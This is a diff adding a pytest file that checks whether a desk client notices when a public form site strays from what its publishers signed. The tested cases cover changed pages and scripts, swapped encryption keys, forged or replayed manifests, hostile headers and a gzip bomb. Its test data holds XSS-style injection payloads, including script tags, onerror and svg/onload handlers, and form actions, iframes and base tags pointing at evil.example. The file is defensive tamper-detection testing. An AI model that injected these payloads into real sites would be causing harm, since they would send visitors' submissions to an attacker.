@@ -1,0 +1,403 @@
+"""A desk watches the public site as a visitor: every change that its publishers did not sign is said."""
+
+import gzip
+import re
+import secrets
+import tracemalloc
+from collections.abc import Callable, Iterable
+from dataclasses import dataclass, field, replace
+from datetime import timedelta
+from pathlib import Path
+from typing import Any
+
+import pyrage
+import pytest
+from click.testing import CliRunner
+from nacl.signing import SigningKey
+from sitegen.publish import build_manifest
+from werkzeug.wrappers import Response
+
+from forms.core.builds.manifest import ADDRESS, SIGNATURES, signature_line
+from forms.core.form_schema import load
+from forms.core.portal import Desk
+from forms.core.rendering import draw_form
+from forms.core.signing import public_text
+from forms.desk import doctor
+from forms.desk.cli.main import desk as desk_command
+from forms.desk.session import Place, Session
+from forms.desk.watch import site_watch, visitor
+from forms.desk.watch.comparison import differing_keys
+from forms.desk.window.app import create_window
+from forms.server.web import static_site
+from tests.desk.conftest import Office
+from tests.desk.window_house import window_client
+from tests.server.conftest import TODAY
+
+_FORM = re.compile(r"(?s)<form .*</form>")
+SCRIPTS = {"/assets/portal.js": b"'a page';", "/assets/seal.js": b"'seals letters';"}
+
+
+@dataclass
+class Site:
+    """A published site on a real server, and what the server was asked."""
+
+    office: Office
+    public: Path
+    key: SigningKey
+    asked: list[dict[str, Any]] = field(default_factory=list)
+    headers: dict[str, str] = field(default_factory=dict)
+
+    def build(self, key: SigningKey | None = None, *, unsigned: bool = False) -> None:
+        """Publish: pages, scripts, and the list of the build."""
+        portal = self.office.portal
+        for path, script in SCRIPTS.items():
+            self.put(path, script)
+        self.put("/assets/portal.css", b"body {}")
+        for language in portal.language_codes():
+            for form, name in (("concern", "tell"), ("answer", "answer")):
+                drawn = draw_form(load(form), portal, language, TODAY)
+                # The site generator draws the same form in the same frame, with what its script needs.
+                html = _FORM.sub(lambda _, drawn=drawn: drawn, self.drawn(language, form))
+                self.put(f"/{language}/{name}/index.html", html.encode())
+            self.put(f"/{language}/index.html", f"<p>{language}</p>".encode())
+        sign = None if unsigned else lambda data: signature_line(data, key or self.key)
+        build_manifest.write(self.public, self.public, portal, TODAY, sign)
+
+    def drawn(self, language: str, form: str) -> str:
+        """A form as the server draws it."""
+        return self.office.app.test_client().get(f"/forms/{language}/{form}").get_data(as_text=True)
+
+    def put(self, path: str, content: bytes) -> None:
+        target = self.public / path[1:]
+        target.parent.mkdir(parents=True, exist_ok=True)
+        target.write_bytes(content)
+
+    def change(self, path: str, old: str, new: str) -> None:
+        """What a taken-over server does to a file of the site."""
+        text = (self.public / path[1:]).read_text(encoding="utf-8")
+        assert old in text
+        self.put(path, text.replace(old, new).encode())
+
+    def rewrite(self, change: Callable[[str, bytes], bytes]) -> None:
+        """Change what the forms' own program answers: path and body in, body out."""
+        inner = self.office.app.wsgi_app
+
+        def wrapped(environ: dict[str, Any], start: Callable[..., Any]) -> Iterable[bytes]:
+            answer = Response.from_app(inner, environ, buffered=True)
+            answer.direct_passthrough = False
+            answer.data = change(environ["PATH_INFO"], answer.get_data())
+            answer.headers.update(self.headers)
+            return answer(environ, start)
+
+        self.office.app.wsgi_app = wrapped  # type: ignore[method-assign]
+
+    @property
+    def desk(self) -> Session:
+        return self.office.machine("legal")
+
+    def alarms(self, session: Session | None = None) -> str:
+        """What stands after another visit to every page."""
+        session = session or self.desk
+        session.sync()
+        session.site_watch.look(session.portal, self.office.day, everything=True)
+        return "\n".join(alarm.sentence for alarm in session.site_watch.state.alarms)
+
+
+@pytest.fixture
+def site(office: Office, tmp_path: Path) -> Site:
+    key = SigningKey.generate()
+    made = Site(office, tmp_path / "public", key)
+    office.app.extensions["public"] = made.public
+    office.app.register_blueprint(static_site.site)
+    inner = office.app.wsgi_app
+
+    def listening(environ: dict[str, Any], start: Callable[..., Any]) -> Iterable[bytes]:
+        made.asked.append(dict(environ))
+        return inner(environ, start)
+
+    office.app.wsgi_app = listening  # type: ignore[method-assign]
+    few = tuple(language for language in office.portal.languages if language.code in {"en", "ta"})
+    office.publish(replace(office.portal, publishers=(public_text(key),), languages=few))
+    made.build()
+    return made
+
+
+def test_a_site_that_is_as_it_was_signed_raises_no_alarm(site: Site) -> None:
+    assert site.alarms() == ""
+    said = [finding.sentence for finding in doctor.examine(site.desk)]
+    assert any("is what its publishers signed" in sentence for sentence in said)
+    site.build()
+    assert site.alarms() == "", "another build by the same publishers is none either"
+
+
+@pytest.mark.parametrize(
+    ("path", "old", "new"),
+    [
+        ("/ta/tell/index.html", "</form>", "</form><script>steal()</script>"),
+        ("/ta/tell/index.html", "</form>", '</form><img src="x" onerror="steal()">'),
+        ("/ta/answer/index.html", 'action="/forms/ta/answer"', 'action="https://evil.example/"'),
+        ("/en/tell/index.html", "/assets/seal.js", "/assets/other.js"),
+        ("/assets/seal.js", "seals", "steals"),
+        ("/assets/portal.js", "a page", "another"),
+        ("/ta/index.html", "ta", "<script src=/assets/evil.js></script>"),
+    ],
+)
+def test_a_changed_page_or_script_is_said(site: Site, path: str, old: str, new: str) -> None:
+    assert site.alarms() == ""
+    site.change(path, old, new)
+    assert path.removesuffix("index.html") in site.alarms()
+
+
+def test_a_page_that_is_gone_or_moved_is_said(site: Site) -> None:
+    assert site.alarms() == ""
+    (site.public / "en" / "tell" / "index.html").unlink()
+    assert "/en/tell/ is of the build" in site.alarms()
+
+
+def test_each_fetch_looks_and_soon_finds_what_is_changed(site: Site) -> None:
+    """No visit goes everywhere, but every one asks for some form and for the script that locks letters."""
+    desk = site.desk
+    desk.sync()
+    site.change("/assets/seal.js", "seals", "steals")
+    desk.sync()
+    assert "/assets/seal.js" in "".join(alarm.sentence for alarm in desk.site_watch.state.alarms)
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        (b"</form>", b"</form><script>steal()</script>"),
+        (b"</form>", b'</form><script src="/assets/evil.js"></script>'),
+        (b'action="/forms/', b'action="https://evil.example/'),
+        (b"<textarea ", b'<textarea oninput="steal()" '),
+        (b"</form>", b'</form><iframe src="https://evil.example/"></iframe>'),
+        (b"<head>", b'<head><base href="https://evil.example/">'),
+        (b"</form>", b"</form><!-- > --><svg/onload=steal()>"),
+        (b"</form>", b"</form><svg/onload=steal() "),
+        (b"<p class", b"<p>Send your letter to another number.</p><p class"),
+    ],
+)
+def test_a_form_that_the_server_draws_can_hold_nothing_that_the_signed_page_has_not(
+    site: Site, old: bytes, new: bytes
+) -> None:
+    assert site.alarms() == ""
+    site.rewrite(lambda path, body: body.replace(old, new) if path == "/forms/ta/concern" else body)
+    assert "/forms/ta/concern shows something" in site.alarms()
+
+
+def test_a_header_that_opens_another_page_is_said(site: Site) -> None:
+    assert site.alarms() == ""
+    site.headers = {"Refresh": "0; url=https://evil.example/"}
+    site.rewrite(lambda _, body: body)
+    assert "header refresh" in site.alarms()
+
+
+def test_a_key_that_only_visitors_are_told_is_said(site: Site) -> None:
+    """The server shows desks the right keys, and adds its own to what a browser seals to."""
+    assert site.alarms() == ""
+    evil = str(pyrage.x25519.Identity.generate().to_public())
+    own = site.office.made["legal"].key
+    site.rewrite(lambda path, body: body.replace(own.encode(), evil.encode()) if path.endswith("/terms") else body)
+    said = site.alarms()
+    assert f"not the desk legal's: {evil}" in said
+    assert f"not locked for this key of the desk legal: {own}" in said
+
+
+def test_a_key_that_the_server_swaps_for_everybody_is_said(site: Site) -> None:
+    assert site.alarms() == ""
+    evil = str(pyrage.x25519.Identity.generate().to_public())
+    police = next(desk for desk in site.office.portal.desks if desk.id == "police")
+    site.office.with_desk("police", members=(replace(police.members[0], key=evil), *police.members[1:]))
+    said = site.alarms()
+    assert evil in said
+    assert "other keys for the desk police" in said
+
+
+def test_a_desk_that_visitors_are_not_told_of_is_said(site: Site) -> None:
+    without: tuple[Desk, ...] = tuple(
+        replace(desk, reads=()) if desk.id == "police" else desk for desk in site.office.portal.desks
+    )
+    site.alarms()
+    site.office.publish(replace(site.office.portal, desks=without))
+    assert "not locked for this key of the desk police" in site.alarms()
+
+
+def test_a_list_of_the_servers_own_making_is_not_believed(site: Site) -> None:
+    """Neither signed by nobody, nor by a key of the server's, nor with the publisher's named in portal.json exchanged."""
+    desk = site.desk
+    assert site.alarms(desk) == ""
+    site.change("/assets/seal.js", "seals", "steals")
+    for publish in (lambda: site.build(unsigned=True), lambda: site.build(SigningKey.generate())):
+        publish()
+        site.change("/assets/seal.js", "seals", "steals")
+        desk.site_watch.dismiss()
+        said = site.alarms(desk)
+        assert "not signed by its publishers" in said
+        assert "/assets/seal.js" in said, "compared with the last list that was right"
+    evil = SigningKey.generate()
+    site.office.publish(replace(site.office.portal, publishers=(public_text(evil),)))
+    site.build(evil)
+    desk.site_watch.dismiss()
+    said = site.alarms(desk)
+    assert "another publisher's key" in said
+    assert "not signed by its publishers" in said
+
+
+def test_a_signature_of_one_list_is_good_for_no_other(site: Site) -> None:
+    old = (site.public / SIGNATURES[1:]).read_bytes()
+    assert site.alarms() == ""
+    site.build()
+    site.put(SIGNATURES, old)
+    assert "not signed by its publishers" in site.alarms()
+
+
+def test_an_older_build_is_said_though_it_was_signed(site: Site) -> None:
+    old = {path: (site.public / path[1:]).read_bytes() for path in (ADDRESS, SIGNATURES)}
+    site.build()
+    assert site.alarms() == ""
+    for path, content in old.items():
+        site.put(path, content)
+    assert "older build" in site.alarms()
+
+
+def test_a_list_that_disappears_is_said_and_the_last_goes_on_being_used(site: Site) -> None:
+    assert site.alarms() == ""
+    (site.public / ADDRESS[1:]).unlink()
+    site.change("/assets/seal.js", "seals", "steals")
+    said = site.alarms()
+    assert "gone or damaged" in said
+    assert "/assets/seal.js" in said
+
+
+@pytest.mark.parametrize("content", [b"", b"[]", b"[" * 100_000, b'{"number": 1e400}', secrets.token_bytes(999)])
+def test_a_hostile_list_or_terms_stop_no_desk(site: Site, content: bytes) -> None:
+    site.rewrite(lambda path, body: content if path.endswith(("/terms", ".sig", ".json")) else body)
+    assert "gone or damaged" in site.alarms()
+    assert site.desk.cases() == ()
+
+
+def test_weaker_receipts_are_said(site: Site) -> None:
+    assert site.alarms() == ""
+    site.rewrite(lambda path, body: body.replace(b'"memory": 64', b'"memory": 8') if path.endswith("/terms") else body)
+    assert "easier to guess" in site.alarms()
+
+
+def test_the_visitor_bears_no_mark_of_a_desk(site: Site) -> None:
+    site.asked.clear()
+    site.desk.sync()
+    visits = [one for one in site.asked if not one["PATH_INFO"].startswith("/pickup/")]
+    assert {ADDRESS, "/forms/sealed/v1/terms", "/assets/seal.js"} <= {one["PATH_INFO"] for one in visits}
+    assert visits[-2]["PATH_INFO"] == ADDRESS, "only when the pages are here: nobody else asks for it"
+    for one in visits:
+        assert not {"HTTP_AUTHORIZATION", "HTTP_COOKIE", "HTTP_REFERER"} & one.keys()
+        assert "Mozilla" in one["HTTP_USER_AGENT"]
+        assert not any("portal" in str(value).lower() for name, value in one.items() if name.startswith("HTTP_"))
+    with_token = {one["REMOTE_PORT"] for one in site.asked if "HTTP_AUTHORIZATION" in one}
+    assert not with_token & {one["REMOTE_PORT"] for one in visits}, "never on a connection that bore a token"
+
+
+def test_the_order_of_the_visit_is_not_the_same_each_time(site: Site) -> None:
+    portal = site.office.portal
+    assert len({tuple(site_watch.route(portal, None, everything=True)) for _ in range(50)}) > 1
+
+
+def test_a_site_that_cannot_be_reached_raises_no_alarm_but_is_said_after_days(
+    site: Site, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    desk = site.desk
+    assert site.alarms(desk) == ""
+
+    def away(*_: Any) -> Any:
+        raise site_watch.Unreachable("site", "cannot be looked at.")
+
+    monkeypatch.setattr(site_watch.Visitor, "get", away)
+    desk.sync()
+    later = site.office.day + timedelta(days=site_watch.MOST_DAYS)
+    assert desk.site_watch.state.alarms == ()
+    assert all(ok for ok, _ in site_watch.findings(desk.site_watch, desk.portal, site.office.day))
+    said = [sentence for ok, sentence in site_watch.findings(desk.site_watch, desk.portal, later) if not ok]
+    assert any("could not be looked at since" in sentence for sentence in said)
+
+
+def test_an_alarm_stands_until_a_person_has_dealt_with_it(site: Site) -> None:
+    """A server that shows the changed page once only is remembered."""
+    desk = site.desk
+    assert site.alarms(desk) == ""
+    site.change("/assets/seal.js", "seals", "steals")
+    assert site.alarms(desk)
+    site.change("/assets/seal.js", "steals", "seals")
+    assert "/assets/seal.js" in site.alarms(desk)
+    assert "/assets/seal.js" in " ".join(one.sentence for one in doctor.examine(desk) if not one.ok)
+    assert desk.site_watch.dismiss() == 1
+    assert site.alarms(desk) == ""
+
+
+def test_the_terminal_says_it_loudly(site: Site) -> None:
+    desk = site.desk
+    desk.sync()
+    site.change("/assets/seal.js", "seals", "steals")
+    arguments = ["--desk", "legal", "--home", str(site.office.home), "--server", site.office.address]
+    done = CliRunner().invoke(desk_command, [*arguments, "list"])
+    assert "THE PUBLIC SITE IS NOT WHAT ITS PUBLISHERS SIGNED" in done.stderr
+    assert "Call the people who publish the site" in done.stderr
+    watched = CliRunner().invoke(desk_command, [*arguments, "watch", "--all"])
+    assert watched.exit_code == 1
+    assert "/assets/seal.js" in watched.stdout
+    site.change("/assets/seal.js", "steals", "seals")
+    assert CliRunner().invoke(desk_command, [*arguments, "watch", "--seen"]).exit_code == 0
+
+
+def test_a_new_publishers_key_is_trusted_only_when_a_person_says_so(site: Site) -> None:
+    desk, new = site.desk, SigningKey.generate()
+    assert site.alarms(desk) == ""
+    site.office.publish(replace(site.office.portal, publishers=(public_text(new),)))
+    site.build(new)
+    assert site_watch.publisher_fingerprint(public_text(new)) in site.alarms(desk)
+    desk.site_watch.trust_publishers(desk.portal)
+    desk.site_watch.dismiss()
+    assert site.alarms(desk) == ""
+
+
+def test_without_publishers_the_doctor_says_that_the_list_is_not_signed(site: Site) -> None:
+    site.office.publish(replace(site.office.portal, publishers=(), demonstration=False))
+    site.build(unsigned=True)
+    desk = site.desk
+    desk.sync()
+    said = [sentence for ok, sentence in site_watch.findings(desk.site_watch, desk.portal, TODAY) if not ok]
+    assert any("is not signed" in sentence for sentence in said)
+
+
+def test_no_two_desks_keys_are_taken_for_each_other() -> None:
+    told = {"police": frozenset({"b"}), "legal": frozenset({"a"})}
+    assert len(list(differing_keys(told, {"police": frozenset({"a"}), "legal": frozenset({"b"})}))) == 4
+
+
+def test_a_packed_bomb_from_the_site_is_not_unpacked(site: Site) -> None:
+    assert site.alarms() == ""
+    bomb = gzip.compress(bytes(64 * 1024 * 1024))
+    site.headers = {"Content-Encoding": "gzip"}
+    site.rewrite(lambda _, body: bomb if body.startswith(b"'seals") else gzip.compress(body))
+    tracemalloc.start()
+    said = site_watch.Visitor(site.office.address).get("/assets/seal.js")
+    peak = tracemalloc.get_traced_memory()[1]
+    tracemalloc.stop()
+    assert len(said.body) <= visitor.LARGEST + 1
+    assert peak < 4 * visitor.LARGEST
+
+
+def test_the_window_says_it_on_every_page_until_it_is_dealt_with(site: Site) -> None:
+    desk = site.desk
+    desk.sync()
+    site.change("/assets/seal.js", "seals", "steals")
+    site.alarms(desk)
+    app = create_window(Place("legal", desk.folder, desk.address), lambda: TODAY)
+    client = window_client(app)
+    door = app.extensions["door"]
+    client.get(f"/enter/{door.token}")
+    same_site = {"Origin": "http://localhost"}
+    client.post("/unlock", data={"form_token": door.form_token}, headers=same_site)
+    for page in ("/", "/keys/", "/retention/"):
+        assert "The public site is not what its publishers signed" in client.get(page).text
+    done = client.post("/keys/alarms-seen", data={"form_token": door.form_token}, headers=same_site)
+    assert "Forgotten: 1." in done.text
+    assert "not what its publishers signed" not in client.get("/").text
